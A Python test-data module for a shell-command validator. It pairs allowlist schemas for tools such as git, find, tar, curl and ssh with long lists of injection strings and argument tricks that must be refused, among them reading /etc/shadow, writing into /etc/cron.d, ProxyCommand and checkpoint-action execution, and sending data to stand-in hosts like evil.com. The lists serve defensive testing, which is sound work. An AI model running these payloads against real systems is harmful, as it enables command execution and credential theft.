"""Commands for the tests: realistic schemas, attacks by hand, ordinary lines, and a generator of both mixed."""

import random
from collections.abc import Iterator
from itertools import product
from typing import Any

SRV = {"inside": ["/srv/**"]}
COUNT = {"type": "integer", "minimum": 1, "maximum": 1000}


def _off(*flags: str) -> dict[str, Any]:
    return dict.fromkeys(flags, False)


SCHEMAS: dict[str, Any] = {
    "git": {
        "flags": _off("--no-pager"),
        "subcommands": {
            "status": {
                "flags": _off("-s", "--short", "-b", "--branch")
                | {"--porcelain": {"enum": ["v1", "v2"], "form": "optional"}},
                "bundles": True,
            },
            "log": {
                "flags": _off("--oneline", "--graph", "--stat", "-p", "--all", "--no-merges")
                | {
                    "-n": COUNT,
                    "--max-count": COUNT,
                    "--author": {},
                    "--since": {},
                    "--format": {"glob": "%*"},
                },
                "operands": {"max": 3, "type": "relative_path"},
                "separator": True,
            },
            "diff": {
                "flags": _off("--stat", "--cached", "--name-only", "--no-ext-diff", "-w"),
                "operands": {"max": 4, "type": "relative_path"},
                "separator": True,
            },
            "show": {"flags": _off("--stat"), "operands": {"max": 1, "type": "relative_path"}},
            "add": {
                "flags": _off("-A", "-u", "-n"),
                "operands": {"max": 20, "type": "relative_path"},
                "separator": True,
            },
            "commit": {"flags": _off("-a", "--amend", "--no-edit") | {"-m": {"multiline": True}}},
            "branch": {"flags": _off("-a", "-v", "-r"), "operands": {"max": 1, "type": "relative_path"}},
            "switch": {
                "flags": {"-c": {"glob": "feature/*"}},
                "operands": {"max": 1, "type": "relative_path"},
            },
            "fetch": {"flags": _off("--prune", "--tags"), "operands": {"max": 1, "enum": ["origin"]}},
            "clone": {
                "flags": {"--depth": COUNT},
                "operands": {
                    "min": 1,
                    "max": 2,
                    "first": [{"glob": "https://git.example.org/*"}],
                    "type": "relative_path",
                },
            },
            "remote": {"subcommands": {"show": {"operands": {"max": 1, "enum": ["origin"]}}, "-v": {}}},
        },
    },
    "find": {
        "flags": _off("-print", "-empty", "-not", "-o", "-a")
        | {
            "-name": {},
            "-iname": {},
            "-type": {"enum": ["f", "d", "l"]},
            "-maxdepth": COUNT,
            "-mtime": {"type": "integer", "minimum": -365, "maximum": 365},
            "-newer": SRV,
        },
        "operands": {"min": 1, "max": 5, **SRV},
        "interleaved": True,
    },
    "grep": {
        "flags": _off("-r", "-n", "-i", "-l", "-c", "-w", "-E", "-F", "-v", "-o", "-h")
        | {"-A": COUNT, "-B": COUNT, "-m": COUNT, "--include": {"form": "attached"}}
        | {"--color": {"enum": ["never", "always"], "form": "optional"}},
        "operands": {"min": 2, "max": 10, "first": [{}], **SRV},
        "bundles": True,
        "separator": True,
    },
    "wc": {"flags": _off("-l", "-w", "-c", "-m"), "operands": {"max": 10, **SRV}, "bundles": True},
    "tar": {
        "subcommands": {
            "-tf": {"operands": {"min": 1, "max": 1, **SRV}},
            "-czf": {
                "flags": {"-C": SRV},
                "operands": {"min": 2, "max": 9, "first": [SRV], "type": "relative_path"},
                "interleaved": True,
            },
            "-xzf": {"flags": {"-C": SRV}, "operands": {"min": 1, "max": 1, **SRV}, "interleaved": True},
        }
    },
    "curl": {
        "flags": _off("-s", "-S", "-f", "-i")
        | {
            "-H": {},
            "-X": {"enum": ["GET", "HEAD", "POST"]},
            "-d": {},
            "--max-time": COUNT,
            "-o": {"inside": ["/srv/out/**"]},
        },
        "operands": {"min": 1, "max": 1, "glob": "https://api.example.org/*"},
        "bundles": True,
    },
    "python3": {
        "flags": _off("-I"),
        "operands": {"min": 1, "max": 6, "first": [{"inside": ["/srv/scripts/*.py"]}]},
    },
    "env": {},
    "xargs": {
        "flags": _off("-0", "-r") | {"-n": COUNT},
        "operands": {"min": 1, "max": 1, "enum": ["/usr/bin/wc"]},
    },
    "ssh": {
        "flags": _off("-T") | {"-p": COUNT},
        "operands": {
            "min": 2,
            "max": 2,
            "first": [{"enum": ["deploy@host.example.org"]}],
            "enum": ["uptime", "df -h"],
        },
    },
    "rsync": {
        "flags": _off("-a", "-v", "-z", "-n", "--delete"),
        "operands": {"min": 2, "max": 2, "first": [SRV], "inside": ["/backup/**"]},
        "bundles": True,
    },
    "sed": {
        "flags": _off("-n", "-E"),
        "operands": {"min": 2, "max": 3, "first": [{"enum": ["1p", "1,10p", "$p", "/error/p"]}], **SRV},
    },
    "awk": {
        "flags": {"-F": {"enum": [",", ":", ";"]}},
        "operands": {
            "min": 2,
            "max": 3,
            "first": [{"enum": ["{print $1}", "{print $2}", "END{print NR}"]}],
            **SRV,
        },
    },
    "make": {
        "flags": _off("-n", "-s", "-k") | {"-j": COUNT},
        "operands": {"max": 3, "enum": ["all", "test", "clean", "lint"]},
    },
    "npm": {
        "subcommands": {
            "ci": {"flags": _off("--ignore-scripts")},
            "test": {},
            "run": {"operands": {"min": 1, "max": 1, "enum": ["build", "lint"]}},
            "ls": {"flags": {"--depth": {"type": "integer", "minimum": 0, "maximum": 9}}},
            "view": {"operands": {"min": 1, "max": 1, "glob": "@example/*"}},
        }
    },
    "ls": {"flags": _off("-l", "-a", "-h", "-t", "-R", "-1"), "operands": {"max": 5, **SRV}, "bundles": True},
    "cat": {"flags": _off("-n"), "operands": {"min": 1, "max": 9, **SRV}},
    "head": {"flags": {"-n": COUNT, "-c": COUNT}, "operands": {"min": 1, "max": 3, **SRV}},
    "echo": {"operands": {"max": 50}},
}

SHELL_ATTACKS = [
    *r"""
/usr/bin/echo hi; id
/usr/bin/echo hi;id
/usr/bin/echo hi & id
/usr/bin/echo hi && id
/usr/bin/echo hi || id
/usr/bin/echo hi | /usr/bin/sh
/usr/bin/echo hi |& /usr/bin/sh
/usr/bin/echo $(id)
/usr/bin/echo "$(id)"
/usr/bin/echo `id`
/usr/bin/echo "`id`"
/usr/bin/echo a`id`b
/usr/bin/echo $HOME
/usr/bin/echo "$HOME"
/usr/bin/echo ${HOME}
/usr/bin/echo ${IFS}id
/usr/bin/echo $((1+1))
/usr/bin/echo $[1+1]
/usr/bin/echo $'\x41'
/usr/bin/echo $"hi"
/usr/bin/echo a > /srv/x
/usr/bin/echo a >> /srv/x
/usr/bin/echo a >| /srv/x
/usr/bin/echo a 2>&1
/usr/bin/echo a &> /srv/x
/usr/bin/cat < /etc/shadow
/usr/bin/cat << EOF
/usr/bin/cat <<< hi
/usr/bin/cat <(id)
/usr/bin/echo >(id)
/usr/bin/ls /srv/*
/usr/bin/ls /srv/?
/usr/bin/ls /srv/[ab]
/usr/bin/ls /srv/{a,b}
/usr/bin/ls ~
/usr/bin/ls ~root
/usr/bin/ls /srv/~root
(/usr/bin/id)
{ /usr/bin/id; }
! /usr/bin/id
/usr/bin/echo !!
/usr/bin/echo !$
/usr/bin/echo a # /usr/bin/id
PATH=/tmp /usr/bin/git status
LD_PRELOAD=/tmp/x.so /usr/bin/git status
A+=b /usr/bin/git status
IFS=x
/usr/bin/echo 'unclosed
/usr/bin/echo "unclosed
/usr/bin/echo 'a' 'b
/usr/bin/echo trailing\
/usr/bin/echo a\nb
/usr/bin/echo "a\"; id; \""
/usr/bin/echo 'a'$(id)'b'
/usr/bin/echo "a"$(id)"b"
/usr/bin/echo ''`id`''
/usr/bin/echo "a'$(id)'b"
/usr/bin/echo a\;b;id
/usr/bin/echo \\; id
/usr/bin/echo a;
;/usr/bin/id
&
|
/usr/bin/if true; then id; fi
for x in a; do id; done
/usr/bin/echo a|b
/usr/bin/echo a\ b;id
function f() { id; }
coproc /usr/bin/id
eval /usr/bin/id
exec /usr/bin/sh
. /srv/x
source /srv/x
sh -c id
/bin/sh -c id
/usr/bin/bash -c id
/usr/bin/busybox sh
time /usr/bin/id
""".strip().splitlines(),
    "/usr/bin/echo a\n/usr/bin/id",
    "/usr/bin/echo a\r/usr/bin/id",
    "/usr/bin/echo a\0b",
    "/usr/bin/echo a\tb",
    "/usr/bin/echo 'a\nb'",
    "/usr/bin/echo \x1b[2Jx",
    "/usr/bin/echo a\u2028id",
    "/usr/bin/echo \u202eabc",
    "/usr/bin/echo a\u200bb",
    "/usr/bin/echo\u00a0a",
    "/usr/bin/echo \ud800",
    "",
    "   ",
    "/usr/bin/echo " + "a" * 9000,
    "/usr/bin/echo " + "(" * 5000,
]
"""Each is refused, by the grammar of a line or because no schema lists what is left of it."""

INJECTIONS: list[tuple[str, list[str]]] = [
    ("find", ["/srv", "-exec", "id", ";"]),
    ("find", ["/srv", "-execdir", "id", ";"]),
    ("find", ["/srv", "-ok", "id", ";"]),
    ("find", ["/srv", "-delete"]),
    ("find", ["/srv", "-fprintf", "/etc/cron.d/x", "a"]),
    ("find", ["/srv", "-fls", "/etc/x"]),
    ("find", ["/etc"]),
    ("find", ["/srv", "/etc"]),
    ("find", ["/srv/../etc"]),
    ("find", ["-files0-from", "/srv/list"]),
    ("find", ["-H", "/srv"]),
    ("find", ["/srv", "-name", "-delete"]),
    ("git", ["-c", "core.pager=id", "log"]),
    ("git", ["-ccore.pager=id", "log"]),
    ("git", ["--config-env=core.pager=X", "log"]),
    ("git", ["--exec-path=/tmp", "status"]),
    ("git", ["-C", "/etc", "status"]),
    ("git", ["--git-dir=/tmp/evil", "status"]),
    ("git", ["-p", "log"]),
    ("git", ["log", "--output=/etc/cron.d/x"]),
    ("git", ["log", "-O/etc/passwd"]),
    ("git", ["log", "--outp", "x"]),
    ("git", ["log", "--no-pager"]),
    ("git", ["diff", "--no-index", "/dev/null", "/etc/shadow"]),
    ("git", ["diff", "--", "/etc/shadow"]),
    ("git", ["diff", "--ext-diff"]),
    ("git", ["fetch", "--upload-pack=id", "origin"]),
    ("git", ["fetch", "--upload-pack", "id", "origin"]),
    ("git", ["fetch", "ext::sh -c id"]),
    ("git", ["clone", "--upload-pack=id", "https://git.example.org/a"]),
    ("git", ["clone", "-u", "id", "https://git.example.org/a"]),
    ("git", ["clone", "ext::sh -c id", "x"]),
    ("git", ["clone", "--", "-oProxyCommand=id", "x"]),
    ("git", ["clone", "https://git.example.org/a", "/etc/x"]),
    ("git", ["clone", "https://git.example.org/a", "../x"]),
    ("git", ["clone", "--template=/tmp", "https://git.example.org/a"]),
    ("git", ["commit", "-m", "a", "--author=x"]),
    ("git", ["commit", "-F", "/etc/shadow"]),
    ("git", ["add", "--pathspec-from-file=/etc/shadow"]),
    ("git", ["add", "-e"]),
    ("git", ["grep", "--open-files-in-pager=id", "x"]),
    ("git", ["rebase", "--exec", "id"]),
    ("git", ["config", "core.pager", "id"]),
    ("git", ["statu"]),
    ("git", []),
    ("grep", ["-f", "/etc/shadow", "/srv/a"]),
    ("grep", ["-rf", "/etc/shadow", "/srv/a"]),
    ("grep", ["--file=/etc/shadow", "x", "/srv/a"]),
    ("grep", ["-e", "x", "/etc/shadow"]),
    ("grep", ["x", "/etc/shadow"]),
    ("grep", ["x", "/srv/a", "/etc/shadow"]),
    ("grep", ["-r", "x"]),
    ("grep", ["-P", "x", "/srv/a"]),
    ("grep", ["x", "/srv/a", "-r"]),
    ("grep", ["--exclude-from=/etc/shadow", "x", "/srv/a"]),
    ("grep", ["--includ=x", "x", "/srv/a"]),
    ("grep", ["-m5", "x", "/srv/a"]),
    ("grep", ["x", "--", "/etc/shadow"]),
    ("wc", ["--files0-from=/etc/passwd"]),
    ("wc", ["--files0-from", "/etc/passwd"]),
    ("wc", ["--files0-from=-"]),
    ("wc", ["-l", "/etc/passwd"]),
    ("wc", ["-lx", "/srv/a"]),
    ("tar", ["-xzf", "/srv/a.tgz", "--checkpoint=1", "--checkpoint-action=exec=id"]),
    ("tar", ["-xzf", "/srv/a.tgz", "--to-command=id"]),
    ("tar", ["-xzf", "/srv/a.tgz", "-I", "id"]),
    ("tar", ["-xzf", "/srv/a.tgz", "--use-compress-program=id"]),
    ("tar", ["-xzf", "host:/srv/a.tgz", "--rsh-command=id"]),
    ("tar", ["-xzf", "/srv/a.tgz", "-C", "/"]),
    ("tar", ["-xzf", "/srv/a.tgz", "-C", "/etc"]),
    ("tar", ["-czf", "/srv/a.tgz", "/etc/shadow"]),
    ("tar", ["-czf", "/srv/a.tgz", "../../etc/shadow"]),
    ("tar", ["-czf", "/srv/a.tgz", "-T", "/etc/shadow"]),
    ("tar", ["czf", "/srv/a.tgz", "x"]),
    ("curl", ["-K", "/srv/x", "https://api.example.org/"]),
    ("curl", ["-o", "/etc/cron.d/x", "https://api.example.org/"]),
    ("curl", ["-o/etc/x", "https://api.example.org/"]),
    ("curl", ["-d", "@/etc/shadow", "https://api.example.org/"]),
    ("curl", ["-H", "@/etc/shadow", "https://api.example.org/"]),
    ("curl", ["-T", "/etc/shadow", "https://api.example.org/"]),
    ("curl", ["--proxy", "http://evil", "https://api.example.org/"]),
    ("curl", ["--url", "http://evil", "https://api.example.org/"]),
    ("curl", ["https://api.example.org/", "http://169.254.169.254/"]),
    ("curl", ["https://api.example.org.evil.com/"]),
    ("curl", ["https://api.example.org@evil.com/"]),
    ("curl", ["file:///etc/shadow"]),
    ("curl", ["-sSK", "/srv/x", "https://api.example.org/"]),
    ("curl", ["-L", "https://api.example.org/"]),
    ("python3", ["-c", "import os"]),
    ("python3", ["-m", "http.server"]),
    ("python3", ["-I", "-c", "x"]),
    ("python3", ["-Ic", "x"]),
    ("python3", ["/tmp/x.py"]),
    ("python3", ["-"]),
    ("python3", ["/srv/scripts/../../tmp/x.py"]),
    ("python3", ["/srv/scripts/sub/x.py"]),
    ("python3", ["/srv/scripts/a.py", "-c", "x"]),
    ("python3", []),
    ("env", ["sh"]),
    ("env", ["-S", "sh -c id"]),
    ("env", ["A=b"]),
    ("env", ["-u", "PATH", "id"]),
    ("env", ["--split-string=sh -c id"]),
    ("xargs", ["sh", "-c", "id"]),
    ("xargs", ["-I", "{}", "/usr/bin/wc"]),
    ("xargs", ["/usr/bin/wc", "--files0-from=/etc/passwd"]),
    ("xargs", ["-a", "/etc/passwd", "/usr/bin/wc"]),
    ("xargs", ["--process-slot-var=PATH", "/usr/bin/wc"]),
    ("ssh", ["-oProxyCommand=id", "deploy@host.example.org", "uptime"]),
    ("ssh", ["-o", "ProxyCommand=id", "deploy@host.example.org", "uptime"]),
    ("ssh", ["-F", "/tmp/x", "deploy@host.example.org", "uptime"]),
    ("ssh", ["deploy@host.example.org", "uptime; id"]),
    ("ssh", ["deploy@host.example.org", "-oProxyCommand=id"]),
    ("ssh", ["deploy@host.example.org", "uptime", "id"]),
    ("ssh", ["-oProxyCommand=id"]),
    ("rsync", ["-e", "id", "/srv/a", "/backup/a"]),
    ("rsync", ["-ae", "id", "/srv/a", "/backup/a"]),
    ("rsync", ["--rsh=id", "/srv/a", "/backup/a"]),
    ("rsync", ["--rsync-path=id", "/srv/a", "/backup/a"]),
    ("rsync", ["-a", "/srv/a", "evil:/x"]),
    ("rsync", ["-a", "/etc", "/backup/a"]),
    ("rsync", ["-a", "--files-from=/etc/shadow", "/srv/a", "/backup/a"]),
    ("sed", ["-n", "1e id", "/srv/a"]),
    ("sed", ["-n", "1,10p;w /etc/x", "/srv/a"]),
    ("sed", ["-i", "1p", "/srv/a"]),
    ("sed", ["-f", "/tmp/x", "/srv/a"]),
    ("sed", ["-n", "1p", "/etc/shadow"]),
    ("sed", ["--expression=1e id", "1p", "/srv/a"]),
    ("awk", ['BEGIN{system("id")}', "/srv/a"]),
    ("awk", ["-f", "/tmp/x", "/srv/a"]),
    ("awk", ["-v", "x=1", "{print $1}", "/srv/a"]),
    ("awk", ["{print $1}", "/etc/shadow"]),
    ("awk", ["-F,", "{print $1}", "/srv/a"]),
    ("awk", ['{print $1 > "/etc/x"}', "/srv/a"]),
    ("make", ["-f", "/tmp/Makefile"]),
    ("make", ["-C", "/tmp"]),
    ("make", ["SHELL=/tmp/x", "all"]),
    ("make", ["--eval=$(shell id)"]),
    ("make", ["all", "CC=id"]),
    ("make", ["-j"]),
    ("make", ["all", "-n"]),
    ("npm", ["install", "evil"]),
    ("npm", ["run", "evil"]),
    ("npm", ["run", "build", "--script-shell=/tmp/x"]),
    ("npm", ["--prefix", "/tmp", "test"]),
    ("npm", ["exec", "evil"]),
    ("npm", ["view", "evil"]),
    ("npm", ["test", "--", "--x"]),
    ("npm", ["ci", "--registry=http://evil"]),
    ("cat", ["/srv/a", "/etc/shadow"]),
    ("cat", ["/srvx/a"]),
    ("cat", ["/srv//a"]),
    ("cat", ["/srv/./a"]),
    ("cat", ["srv/a"]),
    ("cat", ["-"]),
    ("cat", ["/srv/a\n/etc/shadow"]),
    ("echo", ["-e", "x"]),
    ("echo", ["@/etc/shadow"]),
    ("echo", ["+x"]),
    ("echo", ["a\x1b[2J"]),
    ("head", ["-n", "1001", "/srv/a"]),
    ("head", ["-n", "0x10", "/srv/a"]),
    ("head", ["-n", "٣", "/srv/a"]),
    ("head", ["-n", "1_0", "/srv/a"]),
    ("head", ["-n=5", "/srv/a"]),
    ("head", ["-n"]),
    ("unknown", []),
    ("../git", []),
]
"""Programs with the arguments that make them do something else; each is refused by its schema."""

_FILES = [
    f"/srv/{name}" for name in ("a.txt", "app/main.py", "logs/today.log", "data/2026/11.csv", "notes.md")
]
_NAMES = ["README.md", "src/main.py", "docs", "tests/test_a.py", "main", "origin/main", "v1.2.0"]
_WORDS = ["error", "TODO", "'def main'", '"not found"', "import", "^class", "'foo.*bar'", "user_id", r"a\ b"]


def _ordinary() -> Iterator[str]:
    yield from (f"git {line}" for line in (
        "status", "status -s", "status -sb", "status --short --branch", "status --porcelain=v2", "status --porcelain",
        "--no-pager log", "log", "log --oneline", "log --graph --all", "log -p -n 3", "remote show origin",
        "remote -v", "fetch", "fetch origin", "fetch --prune --tags origin", "commit --amend --no-edit",
        "commit -a -m 'fix the parser'", 'commit -m "Add tests: paths & hosts"', "commit -m done", "branch", "branch -a",
        "branch -v", "switch main", "switch -c feature/login", "add -A", "add -u", "add -- -odd-name", "diff",
        "log HEAD~3", "show HEAD~1", "log --since=yesterday", "log --since '2 weeks ago'", "log --author=Ada",
        "log --format='%h %s'", "clone https://git.example.org/a.git", "clone --depth 1 https://git.example.org/a.git a",
    ))  # fmt: skip
    yield from (f"git {verb} {name}" for verb, name in product(("log", "diff", "show", "add"), _NAMES))
    yield from (f"git log --oneline -n {count} {name}" for count, name in product((1, 5, 20), _NAMES))
    yield from (f"git diff {flag} -- {name}" for flag, name in product(("--stat", "--cached", "-w"), _NAMES))
    yield from (
        f"grep {flags} {word} {file}"
        for flags, word, file in product(("-n", "-rn", "-i", "-rin -A 3"), _WORDS, _FILES)
    )
    yield from (f"find {folder} {rest}" for folder, rest in product(
        ("/srv", "/srv/app", "/srv/data"),
        ("-name '*.py'", "-type f", "-type d -empty", "-maxdepth 2 -name '*.md' -print", "-mtime -7", "-iname 'read*'",
         "-newer /srv/a.txt", "-not -name x -type l", "-type f -o -type d", "-mtime 30 -type f"),
    ))  # fmt: skip
    yield from (f"{program} {file}" for program, file in product(
        ("wc", "wc -l", "wc -lw", "ls", "ls -l", "ls -la", "ls -lhtR", "cat", "cat -n", "head", "head -n 20", "head -c 100",
         "tar -tf", "tar -xzf", "sed -n 1,10p", "sed -n '$p'", "sed -n /error/p", "awk '{print $1}'", "awk -F , '{print $2}'",
         "awk -F : 'END{print NR}'", "python3 /srv/scripts/report.py"), _FILES,
    ))  # fmt: skip
    yield from (
        f"rsync {flags} {file} /backup/{n}"
        for flags, (n, file) in product(("-a", "-avz", "-avn --delete"), enumerate(_FILES))
    )
    yield from (f"tar -czf /srv/out/a.tgz -C /srv/app {name}" for name in _NAMES)
    yield from (f"tar -xzf {file} -C /srv/out" for file in _FILES)
    yield from _ordinary_others()


def _ordinary_others() -> Iterator[str]:
    yield from (f"curl {flags} https://api.example.org/{path}" for flags, path in product(
        ("-s", "-sS", "-f -i", "-H 'Accept: application/json'", "-X POST -d 'a=1'", "--max-time 10 -s", "-o /srv/out/a.json"),
        ("", "v1/users", "v1/items/7", "search/a=b", "v2/health"),
    ))  # fmt: skip
    yield from (f"make {rest}" for rest in ("", "all", "test", "clean all", "-j 4", "-n lint", "-s -k test"))
    yield from (
        f"npm {rest}"
        for rest in (
            "ci",
            "ci --ignore-scripts",
            "test",
            "run build",
            "run lint",
            "ls",
            "ls --depth=0",
            "ls --depth 2",
            "view @example/ui",
        )
    )
    yield from (
        f"ssh {rest}"
        for rest in ("deploy@host.example.org uptime", "-T -p 22 deploy@host.example.org 'df -h'")
    )
    yield from ("env", "xargs -0 -n 10 /usr/bin/wc", "xargs -r /usr/bin/wc")
    yield from (
        f"python3 -I /srv/scripts/{name}.py {rest}"
        for name, rest in product(("report", "sync"), ("", "2026-11", "all fast", "'a b'"))
    )
    yield from (
        f"echo {rest}"
        for rest in (
            "hello",
            "hello world",
            "'it is'",
            '"it\'s fine!"',
            "a=b c:d",
            "100%",
            "Zürich 東京",
            "''",
            r"\$5",
            "a,b",
        )
    )


ORDINARY: list[str] = [f"/usr/bin/{line}" for line in dict.fromkeys(_ordinary())]
"""Lines that people type; a few of them are such as the grammar refuses for good."""

_POISON = [
    "-exec", "-c", "-e", "-f", "-o", "-i", "--", "-", "--output=/etc/x", "--upload-pack=id", "--files0-from=/etc/passwd",
    "-f/etc/shadow", "/etc/shadow", "../x", "@/srv/a", "+x", "A=b", "a\nb", "a\0b", "", "-n", "-n5", "-la", "-lZ", "--dep", "--depth=3",
    "--depth", "7", "-7", "1001", "x" * 5000, "/srv/../etc", "/srv/a/", "/srv//a", "/srv", "/srvx", "/srv/*", "\ud800", "\u202e",
    "--color", "--color=always", "always", "--include=*.py", "log", "status", "\x1b", "-m", "-C", "--porcelain=v3", "--format=x", "~", "$(id)",
]  # fmt: skip


def argvs(seed: int, count: int, words: list[tuple[str, ...]]) -> Iterator[tuple[str, list[str]]]:
    """Ordinary commands with parts swapped, doubled, dropped, cut, joined, and poison put in."""
    entropy = random.Random(seed)
    names = [*SCHEMAS, "unknown"]
    for _ in range(count):
        program, *argv = entropy.choice(words)
        name = program.rpartition("/")[2] if entropy.random() < 0.95 else entropy.choice(names)
        for _ in range(entropy.choice((0, 0, 1, 1, 2, 3))):
            at = entropy.randrange(len(argv) + 1)
            match entropy.randrange(8):
                case 0 | 1 | 2:
                    argv.insert(at, entropy.choice(_POISON))
                case 3 if argv:
                    del argv[at % len(argv)]
                case 4 if argv:
                    argv[at % len(argv)] += entropy.choice(["=", "x", "\0", "/..", "=5", " ", "/", "é"])
                case 5 if len(argv) > 1:
                    entropy.shuffle(argv)
                case 6 if len(argv) > 1:
                    at = at % (len(argv) - 1)
                    argv[at : at + 2] = [entropy.choice(["", "=", " "]).join(argv[at : at + 2])]
                case _:
                    argv.insert(at, entropy.choice(entropy.choice(words)))
        yield name, argv
